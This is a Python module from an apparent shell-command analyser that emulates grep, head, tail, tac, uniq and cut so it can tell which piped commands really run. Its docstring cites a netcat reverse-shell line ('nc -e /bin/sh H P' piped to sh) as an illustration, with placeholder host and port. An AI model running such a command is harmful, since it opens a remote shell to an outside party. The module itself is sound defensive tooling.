"""What the line filters print for a known input: grep, head, tail, tac, uniq and cut.
`echo 'nc -e /bin/sh H P' | grep . | sh` runs nc; `echo 'nc -e ...' | grep -v nc | sh`
runs nothing. Each is computed as GNU grep and coreutils do for the forms below, and anything else
is unknown (None): a wrong answer would have the reader read what does not run.

- grep [-v] [-i] [-x] [-E|-F|-G] [-e PATTERN]... [PATTERN], reading its input (regexes as sed's,
  vigiles/analysis/sed.py); -q prints nothing;
- head / tail with -n N, -N, --lines=N (tail also +N);
- tac; uniq without options; cut -c LIST, or -f LIST with -d X (ASCII text only).

(awk programs are read by vigiles/analysis/awk.py.)
"""
from __future__ import annotations

import re2

from .sed import _options_for, _regex, _Unknown


def output_of(name: str, args: list[str], stdin: str) -> str | None:
    try:
        if name in ("grep", "egrep", "fgrep"):
            return _grep(name, args, stdin)
        if name in ("head", "tail"):
            return _head_tail(name, args, stdin)
        if name == "tac" and not args:
            if stdin and not stdin.endswith("\n"):
                return None  # GNU glues the unterminated last line to the one it prints next
            return "".join(reversed(_records(stdin)))
        if name == "uniq" and not args and (not stdin or stdin.endswith("\n")):
            lines = _lines(stdin)
            kept = [line for i, line in enumerate(lines) if i == 0 or line != lines[i - 1]]
            return "".join(line + "\n" for line in kept)
        if name == "cut":
            return _cut(args, stdin)
    except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError, StopIteration):
        return None
    return None


_GREP_UNSURE = re2.compile(r"\\[^wWsS.*\[\]^$\\/(){}+?|-]")
"""grep reads an escaped letter (\\x61, \\n, \\t) as the letter, sed as a character: only the escapes
both read alike are computed."""
_GREP_UNSURE_WHOLE = re2.compile(r"[$^*]")
"""-x wraps the pattern, which moves where ^, $ and * are anchors or characters in a BRE."""


def _lines(text: str) -> list[str]:
    lines = text.split("\n")
    if lines[-1] == "":
        lines.pop()
    return lines


def _records(text: str) -> list[str]:
    """The lines with their newlines, the last without one where the text has none."""
    parts = text.split("\n")
    out = [part + "\n" for part in parts[:-1]]
    if parts[-1]:
        out.append(parts[-1])
    return out


def _grep(name: str, args: list[str], stdin: str) -> str | None:
    patterns: list[str] = []
    invert = case = whole = quiet = False
    syntax = {"egrep": "E", "fgrep": "F"}.get(name, "G")
    rest: list[str] = []
    words = iter(args)
    for word in words:
        if word in ("-e", "--regexp"):
            patterns.append(next(words))
        elif word.startswith("--regexp="):
            patterns.append(word.split("=", 1)[1])
        elif word.startswith("-") and len(word) > 1 and not word.startswith("--"):
            for flag in word[1:]:
                if flag == "v":
                    invert = True
                elif flag == "i":
                    case = True
                elif flag == "x":
                    whole = True
                elif flag == "q":
                    quiet = True
                elif flag in "EFG":
                    syntax = flag
                elif flag not in "sa":  # -s (quiet about files), -a (text)
                    return None  # -o, -c, -n, -w, -l, -r, -f, -A/-B/-C, -P, -z, ...
        elif word in ("--invert-match", "--ignore-case", "--extended-regexp", "--fixed-strings"):
            invert = invert or word == "--invert-match"
            case = case or word == "--ignore-case"
            syntax = {"--extended-regexp": "E", "--fixed-strings": "F"}.get(word, syntax)
        elif word.startswith("-") and word != "-":
            return None
        else:
            rest.append(word)
    if not patterns:
        if not rest:
            return None
        patterns.append(rest.pop(0))
    if any(word != "-" for word in rest):
        return None  # files: the input is theirs
    if quiet:
        return ""
    if "\0" in stdin:
        return None  # GNU grep calls such input binary and prints no lines
    if not stdin.isascii() and (case or syntax != "F"):
        return None
    regexes = []
    for pattern in (p for item in patterns for p in item.split("\n")):
        if syntax == "F":
            source = re2.escape(pattern)
        else:
            if _GREP_UNSURE.search(pattern) is not None or (whole and _GREP_UNSURE_WHOLE.search(pattern)):
                return None
            source, traits = _regex(pattern, syntax == "E")
            if not stdin.isascii() and "word class" in traits:
                return None
            re2.compile(source, _options_for(case))  # each alone: GNU refuses a group split across -e
        regexes.append(f"(?:{source})")
    compiled = re2.compile(("^(?:" if whole else "") + "|".join(regexes) + (")$" if whole else ""),
                           _options_for(case))
    kept = [line for line in _lines(stdin) if (compiled.search(line) is not None) != invert]
    return "".join(line + "\n" for line in kept)


def _count(word: str, plus: bool = False) -> int:
    digits = word[1:] if plus and word.startswith("+") else word
    if not digits or len(digits) > 9 or any(c not in "0123456789" for c in digits):
        raise _Unknown("count")
    return int(digits)


def _head_tail(name: str, args: list[str], stdin: str) -> str | None:
    count, from_start = 10, False
    plus = name == "tail"
    if len(args) > 2 or (len(args) == 2 and args[0] not in ("-n", "--lines")):
        return None  # several counts: GNU's reading of them is its own
    words = iter(args)
    for word in words:
        if word in ("-n", "--lines"):
            value = next(words)
        elif word.startswith("--lines="):
            value = word.split("=", 1)[1]
        elif word.startswith("-n"):
            value = word[2:]
        elif word.startswith("-") and len(word) > 1 and all(c in "0123456789" for c in word[1:]):
            value = word[1:]
        else:
            return None  # -c (bytes), -q, files, a negative count, ...
        from_start = value.startswith("+")
        count = _count(value, plus)
    records = _records(stdin)
    if name == "head":
        if from_start:
            return None
        return "".join(records[:count])
    if from_start:
        return "".join(records[max(count - 1, 0):])
    return "".join(records[max(len(records) - count, 0):]) if count else ""


def _ranges(spec: str) -> list[tuple[int, int]]:
    """A cut list as merged (start, stop) pairs, 1-based and inclusive."""
    out = []
    for part in spec.split(","):
        low, dash, high = part.partition("-")
        if not part or part == "-" or (not dash and not low):
            raise _Unknown("empty range")
        if not dash:
            low = high = part
        start = _count(low) if low else 1
        stop = _count(high) if high else 1 << 30
        if start < 1 or stop < start:
            raise _Unknown("range")
        out.append((start, stop))
    if len(out) > 16:
        raise _Unknown("too many ranges")
    merged: list[tuple[int, int]] = []
    for start, stop in sorted(out):
        if merged and start <= merged[-1][1] + 1:
            merged[-1] = (merged[-1][0], max(stop, merged[-1][1]))
        else:
            merged.append((start, stop))
    return merged


def _cut(args: list[str], stdin: str) -> str | None:
    if not stdin.isascii():
        return None  # GNU cut counts bytes
    chars = fields = None
    delimiter = None
    words = iter(args)
    for word in words:
        if word in ("-c", "-b", "-f", "-d"):
            value = next(words)
            word = word + value
        if word[:2] in ("-c", "-b") and chars is None:
            chars = _ranges(word[2:])
        elif word.startswith("-f") and fields is None:
            fields = _ranges(word[2:])
        elif word.startswith("-d") and delimiter is None:
            delimiter = word[2:]
            if len(delimiter) != 1:
                return None
        else:
            return None  # -s, --complement, --output-delimiter, files, a list given twice
    if (chars is None) == (fields is None) or (chars is not None and delimiter is not None):
        return None  # GNU refuses: one list, and -d only with -f
    delimiter = "\t" if delimiter is None else delimiter
    out = []
    for line in _lines(stdin):
        if chars is not None:
            out.append("".join(line[a - 1:b] for a, b in chars))
        elif delimiter not in line:
            out.append(line)
        else:
            parts = line.split(delimiter)
            out.append(delimiter.join(delimiter.join(parts[a - 1:b]) for a, b in fields if a <= len(parts)))
    return "".join(line + "\n" for line in out)
